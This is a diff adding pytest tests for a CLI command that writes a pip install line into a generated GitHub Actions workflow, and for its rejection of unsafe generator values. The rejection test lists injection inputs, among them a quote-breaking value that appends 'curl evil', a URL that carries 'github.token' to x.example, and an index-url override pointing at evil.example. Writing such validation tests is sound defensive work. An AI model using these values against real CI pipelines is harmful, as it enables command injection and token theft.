@@ -200,3 +200,60 @@ def test_json_keeps_standard_output_for_its_document_when_a_command_succeeds(
     printed = capsys.readouterr()
     assert json.loads(printed.out) == {"errors": []}
     assert printed.err.startswith("Created content/events/a-new-event.md as a draft")
+
+
+# timeline init --generator ---------------------------------------------------------------------
+
+INSTALL_LINE = '        run: python -m pip install "{}"\n'
+
+
+@pytest.mark.parametrize(
+    ("given", "installed"),
+    [
+        ("1.2.0", "timeline-generator==1.2.0"),
+        ("timeline-generator>=1.2,<2", "timeline-generator>=1.2,<2"),
+        (
+            f"timeline-generator @ git+https://github.com/o/r.git@{'b' * 40}",
+            f"timeline-generator @ git+https://github.com/o/r.git@{'b' * 40}",
+        ),
+        (f"git+https://github.com/o/r@{'b' * 40}", f"git+https://github.com/o/r@{'b' * 40}"),
+    ],
+)
+def test_init_writes_the_generator_it_is_given(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], given: str, installed: str
+) -> None:
+    assert main(["init", str(tmp_path / "p"), "--generator", given]) == 0
+    out, err = capsys.readouterr()
+    assert out.startswith("Created a new timeline in ")
+    assert err == ""
+    workflow = (tmp_path / "p/.github/workflows/pages.yml").read_text(encoding="utf-8")
+    assert workflow.count(INSTALL_LINE.format(installed)) == 2
+    assert "pip install" not in workflow.replace(INSTALL_LINE.format(installed), "")
+    assert "local folder" not in workflow
+
+
+@pytest.mark.parametrize(
+    ("given", "shown"),
+    [
+        ('timeline-generator==1.0"; curl evil #', None),
+        ("timeline-generator @ git+https://x.example/${{ github.token }}", None),
+        ("--index-url=https://evil.example/ timeline-generator", None),
+        ("timeline-generator; python_version: '3.11'", None),
+        ("timeline-generator\n  x: y", "timeline-generator\\n  x: y"),
+        ("", ""),
+    ],
+)
+def test_init_refuses_a_generator_the_workflow_cannot_take_as_it_is(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], given: str, shown: str | None
+) -> None:
+    assert main(["init", str(tmp_path / "p"), f"--generator={given}"]) == 1
+    out, err = capsys.readouterr()
+    assert out == ""
+    assert err == (
+        f"--generator: `{given if shown is None else shown}` cannot go into the "
+        "workflow's `pip install` line as it is — give a pip requirement that starts with a "
+        "letter or digit, without quotes, `$`, `#`, `\\` or `: `, such as "
+        "`timeline-generator @ git+https://github.com/OWNER/REPOSITORY@COMMIT` or "
+        "`timeline-generator==1.0.0`\n1 error.\n"
+    )
+    assert not (tmp_path / "p").exists()
